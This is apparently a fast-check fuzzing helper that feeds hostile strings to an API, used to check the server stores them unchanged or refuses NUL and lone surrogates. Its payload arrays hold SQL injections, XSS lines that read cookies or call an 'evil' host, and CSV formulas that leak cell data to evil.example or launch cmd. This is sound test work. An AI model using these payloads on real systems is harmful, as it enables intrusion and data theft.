/**
 * Hostile strings for the API fuzz: injection payloads (SQL, HTML, CSV formulas), Unicode edge
 * cases and very long text. `storableText` only yields strings the server must keep as they are;
 * `unstorableText` yields strings it must refuse (NUL, lone surrogates).
 */
import fc from 'fast-check';

export const SQL_PAYLOADS = [
  "'; DROP TABLE records;--",
  "Robert'); DROP TABLE sessions;--",
  "' OR '1'='1",
  '" OR 1=1 --',
  "' UNION SELECT token_hash, user_id FROM sessions --",
  "1; UPDATE credentials SET password_hash = 'x'",
  '$1',
  '$$ language plpgsql $$',
  "'||pg_sleep(5)--",
  '%s%n%x',
  "\\'; --",
  'SELECT * FROM records WHERE 1=1;',
];

export const HTML_PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  '"><svg onload=alert(1)>',
  '</textarea><script>fetch("//evil")</script>',
  'javascript:alert(1)',
  '&lt;b&gt;&amp;&quot;&#39;',
  '<!--',
  '{{constructor.constructor("alert(1)")()}}',
  '${7*7}',
  '<style>*{display:none}</style>',
];

export const CSV_PAYLOADS = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez")',
  "=cmd|' /C calc'!A0",
  '+SUM(1+1)*cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  'a,b;"c""d"\n"e',
  'DDE("cmd";"/C calc";"!A0")',
];

export const UNICODE_PAYLOADS = [
  '\u202Egnp.exe',
  '\u202D\u202E\u2066\u2067\u2068\u2069',
  'a\u200Bb\u200Cc\u200Dd\u2060e',
  '\uFEFFbom',
  '👩‍👩‍👧‍👦',
  '🏳️‍🌈',
  '𝕏𝔸𝕄𝕃',
  'e\u0301\u0301\u0301\u0301',
  'Z̸̡̢͎̈́͌a̵͕͐l̶̢̈g̸̱̾o̴͙͝',
  'مرحبا بالعالم',
  'שלום',
  '中文字符',
  '\u2028\u2029',
  '\u0001\u0007\u001B[31m\u007F',
  '\uFFFE\uFFFF\uFFFD',
  'İıŞş ß ﬁ',
  '\u00A0\u3000\u2003',
  '\\n\\t\\"',
];

export const PAYLOADS = [...SQL_PAYLOADS, ...HTML_PAYLOADS, ...CSV_PAYLOADS, ...UNICODE_PAYLOADS];

const LONE_SURROGATE = /\p{Cs}/u;

/**
 * A string the server must store as it is: no NUL character (refused on every backend), no lone
 * surrogate, and not the six characters `\u0000` either (the server's NUL check looks for that
 * escape in the body text, so it also refuses the literal text).
 */
export function storable(s: string): boolean {
  return !s.includes('\u0000') && !s.includes('\\u0000') && !LONE_SURROGATE.test(s);
}

/** Length as the schemas count it: in code points, not UTF-16 units. */
export function codePoints(s: string): number {
  let n = 0;
  for (const _ of s) n += 1;
  return n;
}

/** The longest prefix of `s` at most `max` UTF-16 units long, never splitting a surrogate pair. */
export function fit(s: string, max: number): string {
  let out = '';
  for (const cp of s) {
    if (out.length + cp.length > max) break;
    out += cp;
  }
  return out;
}

const odd = fc.constantFrom(...'\u202E\u200B\u200D\uFEFF\u0001\u001F\u007F\u2028\u2029\uFFFF\u00A0 "\'\\<>&=;,%$`'.split(''));

/** A piece of hostile text: a known payload, random graphemes, random code points or odd characters. */
export const fragment: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...PAYLOADS), weight: 5 },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 16 }), weight: 2 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 16 }), weight: 2 },
  { arbitrary: fc.string({ unit: odd, maxLength: 12 }), weight: 1 },
);

/** Hostile text the server must accept and give back unchanged: `min` code points to `max` UTF-16 units. */
export function storableText(max: number, min = 0): fc.Arbitrary<string> {
  const joined = fc.array(fragment, { minLength: 1, maxLength: 4 }).map((parts) => parts.join(''));
  const long = fc.tuple(fc.constantFrom(...PAYLOADS), fc.integer({ min: 1, max: Math.max(1, Math.ceil(max / 4)) })).map(([p, n]) => p.repeat(n));
  return fc
    .oneof({ arbitrary: joined, weight: 6 }, { arbitrary: long, weight: 1 })
    .map((s) => {
      const clean = Array.from(s)
        .filter((cp) => storable(cp))
        .join('')
        .replaceAll('\\u0000', '');
      const short = min - codePoints(clean);
      return fit(short > 0 ? clean + 'é'.repeat(short) : clean, max);
    })
    .filter((s) => codePoints(s) >= min && storable(s));
}

/** Text the server must refuse wherever it appears: a NUL character or a lone surrogate inside. */
export const unstorableText: fc.Arbitrary<string> = fc
  .tuple(storableText(40), fc.constantFrom('\u0000', '\uD800', '\uDBFF', '\uDC00', '\uDFFF', '\uDC00\uD800', 'a\u0000b'), storableText(40))
  .map(([a, bad, b]) => a + bad + b);

/** Any string at all, including the refused ones: for fields whose type or format is wrong anyway. */
export const anyText: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: storableText(60), weight: 4 },
  { arbitrary: unstorableText, weight: 1 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 30 }), weight: 1 },
);

/** A string of more than `max` code points that stays too long after trimming. */
export function tooLong(max: number): fc.Arbitrary<string> {
  return fc
    .tuple(fc.constantFrom(...PAYLOADS), fc.integer({ min: 1, max: 64 }))
    .map(([p, extra]) => `x${p.repeat(Math.ceil((max + extra) / codePoints(p)))}x`)
    .filter(storable);
}
